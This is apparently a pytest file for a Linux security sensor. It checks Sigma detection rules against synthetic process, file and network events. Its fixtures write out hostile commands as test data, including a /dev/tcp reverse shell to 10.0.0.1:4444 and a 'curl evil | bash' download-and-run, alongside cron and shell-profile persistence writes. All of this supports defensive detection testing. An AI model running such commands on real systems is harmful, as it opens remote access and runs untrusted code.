# SPDX-License-Identifier: Apache-2.0
"""Sigma's rules for Linux find their fields in ecs lines, through pySigma and the pipeline of packaging/sigma.

The rules in sigma/ have the structure, field names and modifiers of the public ones. pySigma parses them and applies the
pipeline; what comes out is evaluated here against the lines of all recordings and of the events below.
"""

from __future__ import annotations

import ipaddress
import json
import re
from collections.abc import Iterable
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from event_samples import SHELL, child_of, connection, point, session
from sigma.backends.elasticsearch import LuceneBackend
from sigma.collection import SigmaCollection
from sigma.conditions import ConditionAND, ConditionFieldEqualsValueExpression, ConditionNOT, ConditionOR
from sigma.exceptions import SigmaTransformationError
from sigma.processing.pipeline import ProcessingPipeline
from sigma.types import (
    SigmaCIDRExpression,
    SigmaCompareExpression,
    SigmaNull,
    SigmaNumber,
    SigmaRegularExpression,
    SigmaString,
)

from panorama.event import Event, Loss, Process
from panorama.ignore import load_ignore
from panorama.machines.compiler import Program, compile_behaviors
from panorama.machines.model import BehaviorSet
from panorama.machines.spec import load_behaviors
from panorama.output.context import Context
from panorama.output.ecs import ecs_line
from panorama.output.line import Line
from panorama.output.table import SECTIONS
from panorama.paths import BEHAVIORS
from panorama.pipeline import Pipeline
from panorama.trace import read_trace

ROOT = Path(__file__).parents[2]
RULES = sorted((Path(__file__).parent / "sigma").glob("*.yml"))
PIPELINE = ROOT / "packaging" / "sigma" / "panorama.yml"
NEVER_THERE = {"process.working_directory", "source.domain", "destination.domain"}

Record = dict[str, Any]


def started(exe: str, command_line: str, parent: Process = SHELL, user: str = "root", **more: Any) -> Event:
    """A program that was started, as the sensor tells it."""
    argv = tuple(command_line.split(" "))
    fields = {"exe": exe, "argv": argv, "user": user, "uid": 0 if user == "root" else 1000}
    made_by = {"parent_exe": parent.exe, "parent_argv": parent.argv}
    process = child_of(parent, 200, exe.rpartition("/")[2], **(fields | made_by | more))
    return point(process, "exec")


NGINX = replace(SHELL, command="nginx", exe="/usr/sbin/nginx", argv=("nginx:", "worker"))
HEALTH = replace(NGINX, argv=("nginx", "-c", "health.conf"))
CURL = child_of(SHELL, 300, "curl")
DPKG = child_of(SHELL, 301, "dpkg")
NO_PARENT = {"parent_exe": "", "parent_argv": ()}

# what the recordings do not have, and what nearly matches
EVENTS = [
    started("/usr/bin/base64", "base64 --decode x"),
    started("/usr/bin/base64", "base64 x"),
    started("/usr/bin/bash", "sh -c id", NGINX, "www-data"),
    started("/usr/bin/bash", "sh -c true", HEALTH, "www-data"),
    started("/usr/bin/id", "id", NGINX, "www-data"),
    started("/usr/bin/chmod", "chmod 4755 /tmp/x"),
    started("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    started("/usr/bin/bash", "bash -i"),
    started("/tmp/.x/miner", "miner"),
    started("/opt/tmp/tool", "tool"),
    started("/usr/bin/dash", "sh -c curl evil | bash"),
    started("/usr/bin/dash", "sh -c curl evil | bash", **NO_PARENT),
    session(CURL, "open write close", "/etc/cron.d/job", created=True, bytes_written=5),
    session(CURL, "open read close", "/etc/crontab", bytes_read=5),
    session(CURL, "open write close", "/etc/crontab", bytes_written=5),
    session(DPKG, "open write close", "/etc/cron.d/anacron", created=True, bytes_written=5),
    point(CURL, "rename", "/tmp/job", to="/etc/cron.daily/job"),
    point(CURL, "chmod", "/etc/cron.daily/job", mode=0o755),
    session(CURL, "open write close", "/home/alice/.bashrc", bytes_written=5),
    session(DPKG, "open write close", "/etc/skel/.bashrc", created=True, bytes_written=5),
    connection(SHELL, "connect", "203.0.113.7:443"),
    connection(SHELL, "connect", "[2001:db8::1]:443"),
    connection(SHELL, "connect", "10.1.2.3:443"),
    connection(SHELL, "connect", "[fe80::2]:443"),
    connection(SHELL, "accept", "203.0.113.7:443"),
    connection(CURL, "connect", "127.0.0.1:9050"),
]

MATCHES = {
    "base64_decode": ["root exec /usr/bin/base64 base64 --decode x"],
    "shell_of_web_server": ["www-data exec /usr/bin/bash sh -c id"],
    "setuid": ["root exec /usr/bin/chmod chmod 4755 root"],
    "reverse_shell": ["root exec /usr/bin/bash bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    "other_user": [
        "root exec /usr/bin/setpriv setpriv --reuid 4711 --regid 4711 --clear-groups sh -c cat root > 4711; rm -f 4711.old",
        "root exec /usr/bin/setpriv setpriv --reuid alice --regid alice --clear-groups sftp -q -P 2222 -b batch bob@127.0.0.1",
        "root exec /usr/bin/setpriv setpriv --reuid alice --regid alice --clear-groups sh -c cat root > alice; rm -f alice.old",
    ],
    "temporary_folder": ["root exec /tmp/.x/miner miner"],
    "piped_download": ["root exec /usr/bin/dash sh -c curl evil | bash"],
    "cron": ["alice create /etc/cron.d/job", "alice rename /etc/cron.daily/job", "alice write /etc/crontab"],
    "backup": ["alice rename /home/alice/s.bak"],
    "shell_profile": ["alice write /home/alice/.bashrc"],
    "odd_ssh_port": ["alice connect 127.0.0.1:2222"],
    "shell_calls_out": ["alice connect 2001:db8::1:443", "alice connect 203.0.113.7:443"],
    "inbound": ["root accept 127.0.0.1:2222"],
    "onion": ["alice connect 127.0.0.1:9050"],
}


@cache
def pipeline() -> ProcessingPipeline:
    return ProcessingPipeline.from_yaml(PIPELINE.read_text())


@cache
def program() -> Program:
    """All shipped behaviors, exec among them."""
    return compile_behaviors(BehaviorSet(tuple(replace(each, enabled=True) for each in load_behaviors([BEHAVIORS]))))


def lines_of(items: Iterable[Event | Loss]) -> list[Line]:
    lines: list[Line] = []
    way = Pipeline(program(), load_ignore(BEHAVIORS / "ignore.yaml"), lines.append)
    way.take(items)
    way.finish()
    return lines


@cache
def records() -> list[Record]:
    """The ecs lines of all recordings and of EVENTS."""
    lines = [line for item in EVENTS for line in lines_of([item])]
    problems: list[object] = []
    for path in sorted((ROOT / "traces").glob("*.jsonl*")):
        lines += lines_of(read_trace(path, problems.append))
    assert problems == []
    return [json.loads(ecs_line(line, Context(host="ep1", boot_id="b1"))) for line in lines]


def at(record: Any, path: str) -> list[Any]:
    """The values of a field; none if it is not there."""
    for key in path.split("."):
        record = record.get(key) if isinstance(record, dict) else None
    return record if isinstance(record, list) else [] if record is None else [record]


def holds(node: Any, record: Record) -> bool:
    """A condition as pySigma parsed it. What it has that is not here fails the test."""
    match node:
        case ConditionAND():
            return all(holds(each, record) for each in node.args)
        case ConditionOR():
            return any(holds(each, record) for each in node.args)
        case ConditionNOT():
            return not holds(node.args[0], record)
        case ConditionFieldEqualsValueExpression():
            values = at(record, node.field)
            if isinstance(node.value, SigmaNull):
                return not values
            return any(equals(node.value, value) for value in values)
    raise TypeError(f"not evaluated: {node!r}")


def equals(wanted: Any, value: Any) -> bool:
    match wanted:
        case SigmaString():
            pattern = "".join(
                re.escape(part)
                if isinstance(part, str)
                else {"WILDCARD_MULTI": ".*", "WILDCARD_SINGLE": "."}[part.name]
                for part in wanted.s
            )
            return re.fullmatch(pattern, str(value), re.IGNORECASE | re.DOTALL) is not None
        case SigmaNumber():
            return str(wanted.number) == str(value)
        case SigmaRegularExpression():
            return re.search(str(wanted.regexp), str(value), re.DOTALL) is not None
        case SigmaCIDRExpression():
            address = ipaddress.ip_address(value)
            network = ipaddress.ip_network(wanted.cidr)
            return address.version == network.version and address in network
        case SigmaCompareExpression():
            assert wanted.op.name == "GT"
            return int(value) > wanted.number.number
    raise TypeError(f"not evaluated: {wanted!r}")


def shown(record: Record) -> str:
    """A record as MATCHES has it: user, verb, and what tells it from others."""
    who = f"{record['user']['name']} {record['event']['action']}"
    if record["event"]["action"] == "exec":
        return f"{who} {record['process']['executable']} {record['process']['command_line']}"
    if "file" in record:
        return f"{who} {record['file']['path']}"
    if "destination" in record:
        return f"{who} {record['destination']['address']}:{record['destination']['port']}"
    raise ValueError(f"neither program, file nor connection: {record}")


def rule(path: Path) -> SigmaCollection:
    return SigmaCollection.from_yaml(path.read_text())


@pytest.mark.parametrize("path", RULES, ids=lambda path: path.stem)
def test_a_rule_matches_these_lines_and_no_other(path: Path) -> None:
    [parsed] = rule(path).rules
    pipeline().apply(parsed)
    [condition] = parsed.detection.parsed_condition
    tree = condition.parsed
    assert sorted({shown(record) for record in records() if holds(tree, record)}) == MATCHES[path.stem]


@pytest.mark.parametrize("path", RULES, ids=lambda path: path.stem)
def test_a_rule_becomes_a_query_of_fields_that_lines_have(path: Path) -> None:
    """As sigma-cli converts it for Elasticsearch."""
    [query] = LuceneBackend(pipeline()).convert(rule(path))
    ours = {key for section in SECTIONS for field in section.fields for key in field.ecs.split()}
    ours |= {"event.category", "event.type"}  # of the whole line
    used = set(re.findall(r"(?<![\w.\\])([a-z_]+(?:\.[a-z_]+)+):", query))
    assert used
    assert used - ours <= NEVER_THERE


def test_the_pipeline_maps_to_fields_that_lines_have_or_that_it_says_they_have_not() -> None:
    text = PIPELINE.read_text()
    [mapping] = [each["mapping"] for each in yaml.safe_load(text)["transformations"] if each["id"] == "fields"]
    ours = {key for section in SECTIONS for field in section.fields for key in field.ecs.split()}
    assert set(mapping.values()) - ours == NEVER_THERE


@pytest.mark.parametrize("field", ["Hashes", "OriginalFileName"])
def test_a_rule_with_an_unknown_field_is_refused(field: str) -> None:
    text = (Path(__file__).parent / "sigma" / "base64_decode.yml").read_text()
    text = text.replace("Image|endswith", f"{field}|endswith")
    [parsed] = SigmaCollection.from_yaml(text).rules
    with pytest.raises(SigmaTransformationError, match="not mapped"):
        pipeline().apply(parsed)
